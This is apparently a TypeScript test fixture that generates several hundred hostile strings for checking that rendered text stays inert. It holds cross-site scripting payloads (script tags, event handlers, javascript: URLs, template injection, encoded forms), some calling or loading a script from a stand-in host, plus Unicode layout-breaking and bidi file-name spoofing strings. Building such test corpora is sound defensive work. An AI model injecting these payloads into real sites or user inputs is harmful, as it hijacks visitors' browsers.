/** Texts of which each once ran where it should have been read, or broke the page it stood on. */
import { hostileTexts } from './damage.ts';

/** What a script would do; each leaves a trace that a test looks for. */
const calls = [
  'window.ran=1',
  'alert(1)',
  "fetch('//ran.example')",
  'document.body.remove()',
  'top.location="//ran.example"',
];
const places: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' onmouseover=${call} x='`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<a href="javascript:${call}">read this</a>`,
  (call) => `[read this](javascript:${call})`,
  (call) => `javascript:${call}//`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<form action="javascript:${call}"><button>Sign in again</button></form>`,
  (call) => `<style>@keyframes x{}*{animation:x}</style><p onanimationstart=${call}>`,
  (call) => `</title></textarea></style></noscript><script>${call}</script>`,
  (call) => `<!--><script>${call}</script-->`,
  (call) => `<![CDATA[<script>${call}</script>]]>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `{{constructor.constructor('${call.replaceAll("'", '"')}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `<script src=//ran.example></script>${call}`,
  (call) => `<link rel=stylesheet href="data:text/css,*{display:none}">${call}`,
  (call) => `<base href="//ran.example/">${call}`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `__proto__[onerror]=${call}`,
  (call) => `=HYPERLINK("javascript:${call}";"read this")`,
];

/** What makes a line wider, higher, or read the other way than its place allows. */
const shapes: readonly string[] = [
  'Wiederherstellungsüberprüfungsverantwortlichkeit',
  'x',
  'W',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}',
  '\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}',
  'الضوابط',
  'בקרות',
  '\u202Egnp.exe\u202C',
  '\u2067abc\u2069',
  '審査',
  'ตรวจสอบ',
  'நிர்வாகம்',
  'Z\u0351\u036B\u0343\u036A\u0302',
  '\u200B',
  '\u00A0',
  '\u2003',
  '\u3164',
  '\u00AD',
  '_',
  '|',
  '---',
  '<br>',
  '\u2028',
  '﷽',
  '꧅',
  '𒐫',
];
const times = [1, 12, 40, 90, 140, 290];

/** 500 texts of at most 300 characters, no two equal, and no chance in them. */
export const hostileStrings: readonly string[] = (() => {
  const all = new Set<string>();
  for (const text of hostileTexts) if (text.length <= 300) all.add(text);
  for (const call of calls) for (const place of places) all.add(place(call));
  for (const count of times) {
    for (const shape of shapes) {
      const text = shape.repeat(count).slice(0, 300);
      if (text.isWellFormed()) all.add(text);
    }
  }
  for (const count of [2, 3]) for (const place of places) all.add(place('window.ran=1').repeat(count).slice(0, 300));
  return [...all].slice(0, 500);
})();
